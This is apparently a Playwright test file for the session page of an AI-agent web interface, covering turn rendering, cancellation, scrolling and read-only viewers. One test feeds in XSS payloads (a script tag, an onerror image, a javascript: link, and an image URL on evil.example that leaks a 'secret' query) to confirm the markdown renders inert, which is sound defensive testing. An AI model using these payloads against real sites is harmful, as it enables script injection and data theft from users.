// The session page with the `fake` harness: a turn rendered (thought, plan, tool cards, a diff in
// both views, ANSI colours, markdown, usage), the prompt box written and sent with the keyboard,
// the box waiting while a turn runs and Cancel ending it, markdown rendered inert, a cut payload
// loaded whole, the log following the reader (virtualized), and a viewer's read-only view.
import { checkPage, expect, logCounter, newAgentWithSession, openSession, pageApi, PLAIN_TEXT_COLOUR, prompt, signIn, test } from './fixtures';

test('prompt a fake agent from the keyboard and watch the turn render', async ({ page, user, problems }) => {
  void problems;
  await signIn(page, user);
  const { agent } = await newAgentWithSession(page, 'turns');
  await page.goto(`/agents/${agent.id}`);
  await page.getByRole('button', { name: 'New session' }).click();
  await page.waitForURL(/\/sessions\//);
  await expect(page.locator('[data-status="live"]')).toBeVisible({ timeout: 30_000 });
  const script = [
    'think Let me look around first.',
    'plan Inspect | Edit | Test',
    'tool read Reading Cargo.toml',
    'write src/answer.txt 42\\n',
    'write src/answer.txt 41\\n42\\n43\\n',
    "run printf '\\033[31mred\\033[0m plain'",
    'text **All done.** See [the docs](https://example.com/docs).',
    'usage 100 20',
  ];
  // The keyboard only: Shift+Enter starts a new line, Enter sends.
  const box = page.getByRole('textbox', { name: 'Prompt' });
  await box.focus();
  for (const [i, line] of script.entries()) {
    if (i) await page.keyboard.press('Shift+Enter');
    await page.keyboard.type(line);
  }
  await expect(box, 'Shift+Enter wrote new lines, nothing was sent').toHaveValue(script.join('\n'));
  await page.keyboard.press('Enter');
  const end = page.locator('.item-turn_end');
  await expect(end).toBeVisible({ timeout: 60_000 });
  await expect(end, 'turn_end shows tokens').toContainText(/100 in · 20 out/);
  await expect(end, 'turn_end shows the duration').toContainText(/\d+\.\d s/);
  await expect(page.locator('.item-tool'), 'four tool cards (read, two edits, run), one per call').toHaveCount(4);
  await expect(page.locator('.bubble.prompt .who').first(), 'the prompt says who sent it').toHaveText(/from user [0-9a-f]{8}/);
  await expect.poll(() => page.locator('.diff .line.add').count(), 'the edit shows a diff').toBeGreaterThanOrEqual(1);
  await checkPage(page, 'session');
  await page.getByRole('button', { name: 'side by side' }).click();
  await expect.poll(() => page.locator('.diff.split .split-row').count(), 'the side-by-side view').toBeGreaterThanOrEqual(3);
  const red = await page.locator('pre.ansi span', { hasText: 'red' }).first().evaluate((e) => getComputedStyle(e).color);
  expect(red, 'ANSI red is coloured').not.toBe('');
  expect(red, 'ANSI red is coloured').not.toBe(PLAIN_TEXT_COLOUR);
  await expect(page.locator('.markdown strong', { hasText: 'All done.' }), 'markdown renders').toHaveCount(1);
  await expect(page.locator('details.thought'), 'the thought is collapsed').not.toHaveAttribute('open');
  await expect(page.locator('.plan summary'), 'the plan panel').toContainText(/Plan 0\/3/);
  await expect(box, 'the box is enabled after the turn').toBeEnabled();
  await checkPage(page, 'session-split-diff');
});

test('the prompt box waits while a turn runs; Cancel ends it', async ({ page, user, problems }) => {
  void problems;
  await signIn(page, user);
  const { agent, session } = await newAgentWithSession(page, 'cancel');
  await openSession(page, agent.id, session.id);
  await prompt(page, 'text working\nsleep 20000\ntext never');
  await expect(page.locator('[data-running="yes"]')).toBeVisible({ timeout: 30_000 });
  const box = page.getByRole('textbox', { name: 'Prompt' });
  await expect(box, 'the box is disabled while the turn runs').toBeDisabled();
  await expect(page.locator('#composer-hint'), 'and says why').toContainText('A turn is running');
  await checkPage(page, 'session-running');
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.locator('.turn-end.cancelled')).toBeVisible({ timeout: 30_000 });
  await expect(box, 'enabled again').toBeEnabled();
  await expect(page.locator('.item-message', { hasText: 'never' }), 'the cancelled script stopped').toHaveCount(0);
});

test('markdown with a <script>, a javascript: link and a remote image renders inert', async ({ page, user, problems }) => {
  void problems;
  await signIn(page, user);
  const { agent, session } = await newAgentWithSession(page, 'markdown');
  await openSession(page, agent.id, session.id);
  await prompt(
    page,
    'text <script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"> [click me](javascript:window.__pwned=3) ![leak](https://evil.example/leak.png?q=secret) [ok](https://example.com)',
  );
  await expect(page.locator('.item-turn_end')).toBeVisible({ timeout: 60_000 });
  const msg = page.locator('.item-message').last();
  await expect(msg.locator('script, img, iframe'), 'no script or image element').toHaveCount(0);
  await expect(msg.locator('a[href^="javascript"]'), 'no javascript: link').toHaveCount(0);
  await expect(msg.locator('a[href="https://evil.example/leak.png?q=secret"]'), 'the image is a link').toHaveCount(1);
  await expect(msg, 'the tag shows as text').toContainText('<script>');
  await msg.getByText('click me').click();
  expect(await page.evaluate(() => (window as any).__pwned), 'nothing ran').toBeUndefined();
  await checkPage(page, 'session-markdown');
});

test('a cut payload loads whole on request', async ({ page, user, problems }) => {
  void problems;
  await signIn(page, user);
  const { agent, session } = await newAgentWithSession(page, 'big');
  await openSession(page, agent.id, session.id);
  await prompt(page, 'big 400000');
  await expect(page.locator('.item-turn_end')).toBeVisible({ timeout: 60_000 });
  await page.getByRole('button', { name: 'Load whole' }).click();
  await expect(page.locator('pre.whole')).toBeVisible({ timeout: 30_000 });
  const whole = await page.locator('pre.whole').innerText();
  expect(whole.length, 'the whole payload').toBeGreaterThan(400000);
});

test('the log sticks to the bottom only while the reader is there', async ({ page, user, problems }) => {
  void problems;
  await signIn(page, user);
  const { agent, session } = await newAgentWithSession(page, 'scroller');
  await openSession(page, agent.id, session.id);
  const script = Array.from({ length: 120 }, (_, i) => `tool read Reading file ${i}\nsleep 40`).join('\n');
  await prompt(page, script);
  await page.waitForFunction(() => Number((document.querySelector('.log') as HTMLElement | null)?.dataset.items ?? 0) > 40, null, { timeout: 60_000 });
  const log = page.locator('.log');
  const distance = () => log.evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight);
  expect(await distance(), 'at the bottom while items come in').toBeLessThan(60);
  // The reader scrolls up: the log stays where it is while items keep coming. A slow machine
  // (the CPU throttled 6×) widens the moment between the scroll and its event, when an arriving
  // item could pull the log back down.
  const cdp = await page.context().newCDPSession(page);
  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 6 });
  await log.evaluate((el) => (el.scrollTop = 200));
  await page.waitForTimeout(300);
  const top = await log.evaluate((el) => el.scrollTop);
  await page.waitForTimeout(1200);
  const later = await log.evaluate((el) => el.scrollTop);
  expect(Math.abs(later - top), `the log did not move: 200 → ${top} → ${later}`).toBeLessThan(4);
  expect(top).toBeLessThan(1000);
  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 1 });
  await page.getByRole('button', { name: /Jump to latest/ }).click();
  await expect(page.locator('.item-turn_end')).toBeVisible({ timeout: 60_000 });
  await expect.poll(distance, 'back at the bottom, it follows to the end').toBeLessThan(60);
  const inDom = await page.locator('.log .item').count();
  const items = await logCounter(page, 'items');
  expect(inDom, `virtualized: ${inDom} of ${items} items in the page`).toBeLessThan(items);
});

test('a viewer sees the session but no prompt box and no terminal', async ({ page, user, problems, newUser, signedInAs }) => {
  void problems;
  const victor = await newUser('victor');
  await signIn(page, user);
  const ws = await pageApi(page, 'POST', '/api/v1/workspaces', { name: `team-${user.username}` });
  await pageApi(page, 'PUT', `/api/v1/workspaces/${ws.id}/members/${victor.id}`, { role: 'viewer' });
  const { agent, session } = await newAgentWithSession(page, 'shared', { workspace_id: ws.id });
  await pageApi(page, 'POST', `/api/v1/sessions/${session.id}/prompt`, { text: 'text hello viewers' });
  const vp = await signedInAs(victor);
  await vp.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await expect(vp.locator('.item-message', { hasText: 'hello viewers' })).toBeVisible({ timeout: 60_000 });
  await expect(vp.locator('textarea'), 'no prompt box').toHaveCount(0);
  await expect(vp.locator('.viewer-note')).toBeVisible();
  await checkPage(vp, 'session-viewer');
  await vp.goto(`/agents/${agent.id}`);
  await expect(vp.getByText('Overview')).toBeVisible();
  await expect(vp.getByRole('link', { name: 'Terminal' }), 'no terminal link').toHaveCount(0);
  await expect(vp.getByRole('button', { name: 'New session' }), 'no new session').toHaveCount(0);
  await checkPage(vp, 'agent-viewer');
  await vp.goto(`/agents/${agent.id}/terminal`);
  await expect(vp.getByText('Operators of this agent')).toBeVisible();
  await expect(vp.locator('.xterm'), 'no terminal opened').toHaveCount(0);
  await checkPage(vp, 'terminal-viewer');
});
